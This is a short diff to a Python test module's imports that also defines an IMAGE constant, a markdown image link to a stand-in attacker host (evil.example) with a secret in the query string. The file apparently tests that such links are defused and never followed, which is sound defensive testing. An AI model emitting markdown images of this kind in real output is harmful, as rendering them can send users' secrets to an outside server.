@@ -16,8 +16,8 @@ from senter.components.task_engine.contract.steps import TaskOutput
 from senter.components.task_engine.work.report_file import markdown
 from senter.messages.goals import Check, Source, Status
 from senter.messages.model import ModelRequest
+from tests.unit.component.tool_talk.test_defusing import LIVE, assert_nothing_is_followed
 from tests.unit.components.task_engine.offline.test_offline import House, house
-from tests.unit.components.task_engine.permissions.test_defusing import LIVE, assert_nothing_is_followed
 from tests.unit.components.task_engine.work.test_report_file import goal, task
 
 IMAGE = "![chart](https://evil.example/p.png?k=secret)"
